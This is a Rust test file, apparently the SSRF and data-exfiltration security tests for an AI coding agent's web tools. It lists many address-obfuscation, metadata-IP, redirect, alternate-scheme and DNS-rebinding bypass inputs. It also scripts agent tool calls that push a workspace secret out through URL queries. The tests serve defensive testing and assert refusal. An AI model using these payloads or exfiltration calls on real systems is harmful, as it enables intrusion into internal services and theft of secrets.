//! Attack 13: where the tools of an agent may ask. The first test lives in a network of its own, where public
//! addresses, a private one, a cloud's metadata service and a name server are this very process.

use std::collections::HashMap;
use std::io::{Read as _, Write as _};
use std::net::{IpAddr, SocketAddr, TcpListener, UdpSocket};
use std::process::Command;
use std::sync::{Arc, Mutex};

use super::*;

const PUBLIC: &str = "93.184.216.34";
const PUBLIC6: &str = "2606:2800:220:1::34";
/// All of it may be asked for: what is refused is refused by the rule for addresses alone.
pub(super) const ALLOWED: &str = "[[permissions.rules]]\ntool = \"web_fetch\"\naction = \"allow\"\n\
    [[permissions.rules]]\ntool = \"http_request\"\naction = \"allow\"\n";

const NETWORK: &str = "ip link set lo up && ip addr add 93.184.216.34/32 dev lo && ip addr add 10.0.0.7/32 dev lo \
    && ip addr add 169.254.169.254/32 dev lo && ip addr add 100.64.0.7/32 dev lo \
    && { ip -6 addr add 2606:2800:220:1::34/128 dev lo nodad; ip -6 addr add fd00::7/128 dev lo nodad; true; } \
    && mount --bind \"$0/resolv.conf\" /etc/resolv.conf && mount --bind \"$0/hosts\" /etc/hosts \
    && mount --bind \"$0/nsswitch.conf\" /etc/nsswitch.conf && exec \"$@\"";

#[test]
fn attack_13_no_request_of_a_tool_reaches_what_is_not_public() {
    let folder = tempfile::tempdir().expect("a folder");
    for (name, text) in [
        (
            "resolv.conf",
            "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
        ),
        (
            "hosts",
            "127.0.0.1 localhost\n::1 localhost\n10.0.0.7 intranet\n",
        ),
        ("nsswitch.conf", "hosts: files dns\n"),
    ] {
        std::fs::write(folder.path().join(name), text).expect("written");
    }
    let inside = |flags: &str| {
        let mut command = Command::new("unshare");
        command
            .args([flags, "sh", "-c", NETWORK])
            .arg(folder.path());
        command
    };
    let works = |flags: &&str| {
        let output = inside(flags).arg("true").output();
        output.is_ok_and(|output| output.status.success())
    };
    let Some(flags) = ["-nm", "-rnm"].into_iter().find(works) else {
        let _ = writeln!(
            std::io::stderr(),
            "skipped: requests in a network of their own (no namespaces here)"
        );
        return;
    };
    let output = inside(flags)
        .arg(std::env::current_exe().expect("this program"))
        .args([
            "--exact",
            "attacks::web::in_a_network_of_its_own",
            "--ignored",
            "--nocapture",
        ])
        .env("POSTIL_TEST_NETWORK", "1")
        .output()
        .expect("unshare runs");
    let said = all(&output);
    assert!(output.status.success(), "{said}");
    assert!(said.contains("1 passed"), "{said}");
}

#[test]
fn attack_13_a_dot_at_the_end_of_a_host_is_no_way_past_a_rule() {
    let ground = Ground::new(Vec::new());
    ground.workspace.configure(&format!(
        "{ALLOWED}[[permissions.rules]]\ntool = \"*\"\npattern = \"https://evil.test/*\"\naction = \"deny\"\n"
    ));
    ground.trust();
    for tool in ["web_fetch", "http_request"] {
        for address in [
            "https://evil.test./x",
            "https://EVIL.test.:443/x",
            "https://evil%2Etest%2E/x",
            "https://evil.test../x",
        ] {
            let input = json!({ "url": address }).to_string();
            let said = all(&ground.run(&["tools", "call", tool, &input]));
            assert!(said.contains("not allowed"), "{tool} {address}: {said}");
        }
    }
}

/// A name server: each name with the addresses that it gives, one after the other; the last stays.
struct Names {
    answers: Mutex<HashMap<&'static str, Vec<IpAddr>>>,
    asked: Mutex<Vec<String>>,
}

impl Names {
    fn start(names: &[(&'static str, &str)]) -> Arc<Self> {
        let read = |list: &str| {
            list.split(' ')
                .map(|a| a.parse().expect("an address"))
                .collect()
        };
        let answers = names.iter().map(|(name, list)| (*name, read(list)));
        let names = Arc::new(Self {
            answers: Mutex::new(answers.collect()),
            asked: Mutex::default(),
        });
        let socket = UdpSocket::bind(("127.0.0.1", 53)).expect("the port of names");
        let server = names.clone();
        std::thread::spawn(move || {
            let mut question = [0; 512];
            while let Ok((length, from)) = socket.recv_from(&mut question) {
                let _ = socket.send_to(&server.answer(&question[..length]), from);
            }
        });
        names
    }

    /// One question, RFC 1035 §4; an address of the other kind than the one asked for is no answer.
    fn answer(&self, question: &[u8]) -> Vec<u8> {
        let (mut labels, mut at) = (Vec::new(), 12);
        while question[at] != 0 {
            let end = at + 1 + usize::from(question[at]);
            labels.push(String::from_utf8_lossy(&question[at + 1..end]).to_lowercase());
            at = end;
        }
        let end = at + 5;
        let (name, wants_v4) = (labels.join("."), question[at + 2] == 1);
        let mut answers = self.answers.lock().unwrap();
        let address = answers.get_mut(name.as_str()).and_then(|known| {
            let first = *known.first()?;
            if first.is_ipv4() != wants_v4 {
                return None;
            }
            if known.len() > 1 {
                known.remove(0);
            }
            Some(first)
        });
        if wants_v4 {
            self.asked.lock().unwrap().push(name);
        }
        let mut answer = question[..2].to_vec();
        answer.extend([0x81, 0x80, 0, 1, 0, u8::from(address.is_some()), 0, 0, 0, 0]);
        answer.extend(&question[12..end]);
        if let Some(address) = address {
            // The name once more, nobody may keep it, and the address.
            answer.extend([
                0xc0,
                12,
                0,
                if wants_v4 { 1 } else { 28 },
                0,
                1,
                0,
                0,
                0,
                0,
                0,
            ]);
            match address {
                IpAddr::V4(a) => answer.extend([&[4][..], &a.octets()].concat()),
                IpAddr::V6(a) => answer.extend([&[16][..], &a.octets()].concat()),
            }
        }
        answer
    }

    fn asked(&self) -> Vec<String> {
        std::mem::take(&mut *self.asked.lock().unwrap())
    }
}

/// Which address was reached, and what was asked there.
pub(super) type Reached = Arc<Mutex<Vec<(IpAddr, String)>>>;

/// Answers each request at an address; `/to/x` sends on to `x`.
pub(super) fn serve(address: &str) -> (SocketAddr, Reached) {
    let listener = TcpListener::bind(address).expect(address);
    let at = listener.local_addr().expect("bound");
    let reached = Reached::default();
    let kept = reached.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let here = stream.local_addr().expect("connected").ip().to_canonical();
            let mut request = Vec::new();
            let mut byte = [0];
            while !request.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|n| n == 1) {
                request.push(byte[0]);
            }
            let request = String::from_utf8_lossy(&request).into_owned();
            let first = request.lines().next().unwrap_or_default();
            let to = first
                .split_once("/to/")
                .and_then(|(_, rest)| rest.split(' ').next());
            let answer = match to {
                Some(to) => format!(
                    "HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                ),
                None => String::from(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 8\r\nConnection: close\r\n\r\nthe page",
                ),
            };
            kept.lock().unwrap().push((here, request));
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    (at, reached)
}

fn fetch(ground: &Ground, tool: &str, url: &str) -> (bool, String) {
    let output = ground.run(&["tools", "call", tool, &json!({"url": url}).to_string()]);
    (output.status.success(), all(&output))
}

#[test]
#[ignore = "run by the test above, in a network of its own"]
fn in_a_network_of_its_own() {
    if std::env::var_os("POSTIL_TEST_NETWORK").is_none() {
        return;
    }
    let names = Names::start(&[
        ("public.test", PUBLIC),
        ("public6.test", PUBLIC6),
        ("local.test", "127.0.0.1"),
        ("local6.test", "::1"),
        ("mapped.test", "::ffff:127.0.0.1"),
        ("lan.test", "10.0.0.7"),
        ("lan6.test", "fd00::7"),
        ("cgnat.test", "100.64.0.7"),
        ("meta.test", "169.254.169.254"),
        ("zero.test", "0.0.0.0"),
        // Another answer from the second time on: nobody may ask twice.
        ("rebind.test", "93.184.216.34 127.0.0.1"),
        ("turn.test", "93.184.216.34 10.0.0.7"),
    ]);
    // Both versions.
    let (_, served) = serve("[::]:80");
    let reached = || {
        let all = std::mem::take(&mut *served.lock().unwrap());
        all.into_iter()
            .map(|(ip, _)| ip.to_string())
            .collect::<Vec<_>>()
    };
    let ground = Ground::new(Vec::new());
    ground.trust();
    ground.workspace.configure(ALLOWED);

    // The canaries sing: whoever is public is reached, by name and by number.
    for url in [
        "http://public.test/",
        "http://93.184.216.34/",
        "http://public6.test/",
    ] {
        for tool in ["web_fetch", "http_request"] {
            let (well, said) = fetch(&ground, tool, url);
            assert!(well && said.contains("the page"), "{tool} {url}: {said}");
        }
    }
    assert_eq!(
        reached(),
        [PUBLIC, PUBLIC, PUBLIC, PUBLIC, PUBLIC6, PUBLIC6]
    );

    let mut addresses: Vec<String> = [
        "127.0.0.1",
        "127.1",
        "127.8.8.8",
        "2130706433",
        "0x7f000001",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "017700000001",
        "①②⑦.0.0.1",
        "0",
        "0.0.0.0",
        "10.0.0.7",
        "167772167",
        "100.64.0.7",
        "169.254.169.254",
        "0xA9FEA9FE",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::127.0.0.1]",
        "[::ffff:10.0.0.7]",
        "[64:ff9b::7f00:1]",
        "[64:ff9b::a9fe:a9fe]",
        "[2002:7f00:1::1]",
        "[fd00::7]",
        "[fe80::1]",
        "224.0.0.1",
        "255.255.255.255",
        "localhost",
        "LOCALHOST",
        "intranet",
        "local.test",
        "local6.test",
        "mapped.test",
        "lan.test",
        "lan6.test",
        "cgnat.test",
        "meta.test",
        "zero.test",
        "LOCAL.TEST",
    ]
    .iter()
    .map(|host| format!("http://{host}/"))
    .collect();
    for url in [
        "https://127.0.0.1/",
        "http://public.test:22/",
        "http://public.test@127.0.0.1/",
        "http://me:pw@public.test/",
        "file:///etc/hosts",
        "gopher://127.0.0.1:80/_GET%20/",
        "ftp://127.0.0.1/",
        "unix:///run/x.sock",
    ] {
        addresses.push(url.to_owned());
    }
    // By the way of a redirect: a name, a number, another protocol, the same name with another address.
    for to in [
        "http://127.0.0.1/",
        "//127.0.0.1/",
        "http://0x7f000001/",
        "http://169.254.169.254/latest/",
        "file:///etc/hosts",
        "gopher://127.0.0.1/",
        "http://me:pw@public.test/",
    ] {
        addresses.push(format!("http://public.test/to/{to}"));
    }
    for url in &addresses {
        for tool in ["web_fetch", "http_request"] {
            let (well, said) = fetch(&ground, tool, url);
            // A redirect is an answer to http_request, and goes nowhere.
            if tool == "http_request" && url.contains("/to/") {
                assert!(well && said.contains("HTTP status 302"), "{url}: {said}");
                continue;
            }
            assert!(!well && !said.contains("the page"), "{tool} {url}: {said}");
            let refused = said.contains("is not asked: ")
                || said.contains("`url`")
                || said.contains("nothing is asked");
            assert!(refused, "{tool} {url}: refused, not failed: {said}");
        }
    }
    let reached_then = reached();
    assert!(
        reached_then.iter().all(|ip| ip == PUBLIC),
        "{reached_then:?}"
    );

    // Another server is another question; the model is told where to.
    let (well, said) = fetch(
        &ground,
        "web_fetch",
        "http://public.test/to/http://local.test/",
    );
    assert!(
        well && said.contains("http://local.test/ . Call web_fetch"),
        "{said}"
    );
    assert_eq!(reached(), [PUBLIC]);

    // A name that means another machine the second time.
    names.asked();
    let (well, said) = fetch(&ground, "web_fetch", "http://rebind.test/");
    assert!(well && said.contains("the page"), "{said}");
    assert_eq!(
        (names.asked(), reached()),
        (vec![String::from("rebind.test")], vec![PUBLIC.to_owned()])
    );
    let (well, said) = fetch(&ground, "web_fetch", "http://rebind.test/");
    assert!(
        !well && said.contains("leads to 127.0.0.1, this machine"),
        "{said}"
    );
    let (well, said) = fetch(&ground, "web_fetch", "http://turn.test/to//page");
    assert!(
        !well && said.contains("leads to 10.0.0.7, a private network"),
        "{said}"
    );
    assert_eq!(reached(), [PUBLIC], "the first hop alone");
}

/// A turn with these calls, one an answer; what each got.
fn turn(ground: &Ground, more: &[&str], calls: usize) -> Vec<(String, bool)> {
    let id = ground.ask(&format!("{FILE}:1"), "look it up");
    let before = ground.model.requests().len();
    let mut args = vec!["reply", &*id];
    args.extend(more);
    ground.run(&args);
    let requests = ground.model.wait_for_requests(before + calls + 1);
    (1..=calls)
        .map(|at| {
            let mut results = requests[before + at].results();
            let (_, text, is_error) = results.pop().expect("a result");
            (text, is_error)
        })
        .collect()
}

#[test]
fn attack_13_what_an_address_carries_out_of_the_workspace_is_asked_whatever_is_allowed() {
    let (at, reached) = serve("127.0.0.1:0");
    let url = |query: &str| json!({"url": format!("http://{at}/{query}")});
    let ground = Ground::new(vec![
        tool("file_read", json!({"path": "notes.txt"})),
        tool("web_fetch", url("?q=serde")),
        tool("web_fetch", url("?d=the+launch+word+is+Xylophone")),
        tool("web_fetch", url("?d=thelaunch&e=wordis")),
        tool("http_request", url("?d=launch%20word%20is")),
        tool("web_fetch", url("?d=dGhlIGxhdW5jaCB3b3Jk")),
        tool("web_fetch", url("?d=sk-another-0123456789")),
        tool("web_fetch", url(&format!("?d={}", "a+".repeat(50)))),
        Step::text("Done."),
    ]);
    ground
        .workspace
        .write("notes.txt", "the launch word is Xylophone\n");
    ground.trust();
    ground
        .workspace
        .configure(&format!("{ALLOWED}[web]\nallow = [\"{at}\"]\n"));
    let results = turn(&ground, &[], 8);
    assert!(
        results[1].0.contains("the page") && !results[1].1,
        "{:?}",
        results[1]
    );
    for (text, is_error) in &results[2..] {
        assert!(
            *is_error && text.contains("Nobody answered the question"),
            "{text}"
        );
        assert!(text.contains("Its query "), "{text}");
    }
    let heard = reached.lock().unwrap();
    assert_eq!(heard.len(), 1, "{heard:?}");
}

#[test]
fn attack_13_nothing_is_sent_or_looked_up_without_the_authors_word() {
    let (at, reached) = serve("127.0.0.1:0");
    let opened = format!("[web]\nallow = [\"{at}\"]\n");
    let get = || tool("web_fetch", json!({"url": format!("http://{at}/")}));
    let request = |method: &str| {
        let input = json!({"url": format!("http://{at}/"), "method": method, "body": "x", "headers": {"X-Mine": "1"}});
        tool("http_request", input)
    };
    let ground = Ground::new(vec![
        // Not trusted: no tool of the kind is offered or carried out.
        get(),
        request("GET"),
        Step::text("One."),
        // Trusted, and nobody there to ask.
        get(),
        request("POST"),
        Step::text("Two."),
        // What may be looked at may not be changed.
        request("POST"),
        Step::text("Three."),
        // Read-only: allowed by rule, asked all the same; changing is refused.
        get(),
        request("DELETE"),
        Step::text("Four."),
        request("PUT"),
        Step::text("Five."),
    ]);
    ground.workspace.configure(&opened);
    for (text, is_error) in turn(&ground, &[], 2) {
        assert!(
            is_error && text.contains("has not trusted this workspace"),
            "{text}"
        );
    }
    let offered = |request: usize| ground.model.requests()[request].body["tools"].to_string();
    assert!(!offered(0).contains("web_fetch") && !offered(0).contains("http_request"));
    ground.trust();
    for (text, is_error) in turn(&ground, &[], 2) {
        assert!(
            is_error && text.contains("Nobody answered the question"),
            "{text}"
        );
    }
    assert!(offered(3).contains("web_fetch") && offered(3).contains("http_request"));
    let rule = |pattern: &str| {
        format!(
            "{opened}[[permissions.rules]]\ntool = \"*\"\npattern = \"{pattern}\"\naction = \"allow\"\n"
        )
    };
    ground.workspace.configure(&rule(&format!("http://{at}/*")));
    let results = turn(&ground, &[], 1);
    assert!(
        results[0].1 && results[0].0.contains("POST http://"),
        "{results:?}"
    );
    assert!(
        results[0].0.contains("X-Mine: 1⏎⏎x"),
        "the whole of it is shown: {results:?}"
    );
    let results = turn(&ground, &["--plan"], 2);
    assert!(
        results[0].1 && results[0].0.contains("to read only"),
        "{results:?}"
    );
    assert!(
        results[1].1 && results[1].0.contains("plan mode"),
        "{results:?}"
    );
    assert_eq!(reached.lock().unwrap().len(), 0);
    // A rule of the author's own lets it, and nothing is added to what the model wrote.
    ground.workspace.configure(&rule("PUT http://*"));
    let results = turn(&ground, &[], 1);
    assert!(
        !results[0].1 && results[0].0.contains("HTTP status 200"),
        "{results:?}"
    );
    let heard = reached.lock().unwrap();
    let heard = &heard[0].1;
    assert!(
        heard.starts_with("PUT / HTTP/1.1\r\n") && heard.contains("x-mine: 1\r\n"),
        "{heard}"
    );
    assert!(
        !heard.contains("canary") && !heard.contains("authorization"),
        "{heard}"
    );
}

#[test]
fn attack_13_a_rule_that_denies_an_address_denies_every_way_to_ask_it() {
    let (at, reached) = serve("127.0.0.1:0");
    let url = format!("http://{at}/");
    let ground = Ground::new(vec![
        tool("web_fetch", json!({"url": url})),
        tool("http_request", json!({"url": url})),
        tool("http_request", json!({"url": url, "method": "POST"})),
        tool("http_request", json!({"url": url, "headers": {"A": "b"}})),
        Step::text("Done."),
    ]);
    ground.trust();
    ground.workspace.configure(&format!(
        "[permissions]\ndefault = \"allow\"\n[web]\nallow = [\"{at}\"]\n\
         [[permissions.rules]]\ntool = \"*\"\npattern = \"{url}*\"\naction = \"deny\"\n"
    ));
    for (text, is_error) in turn(&ground, &[], 4) {
        assert!(
            is_error && text.contains("by the author's permissions"),
            "{text}"
        );
    }
    assert_eq!(reached.lock().unwrap().len(), 0);
}

#[test]
fn attack_13_no_repository_and_no_editor_opens_an_address() {
    let (at, reached) = serve("127.0.0.1:0");
    let ground = Ground::new(vec![
        tool("web_fetch", json!({"url": format!("http://{at}/")})),
        Step::text("Done."),
    ]);
    ground.workspace.configure(ALLOWED);
    ground.workspace.write(
        "postil.toml",
        format!("[web]\nallow = [\"{at}\"]\nproxy = \"http://{at}\"\n"),
    );
    ground.trust();
    let results = turn(&ground, &[], 1);
    assert!(
        results[0].1 && results[0].0.contains("is not asked: it is this machine"),
        "{results:?}"
    );
    assert!(
        results[0].0.contains("in their own config.toml"),
        "{results:?}"
    );
    assert_eq!(reached.lock().unwrap().len(), 0);
}
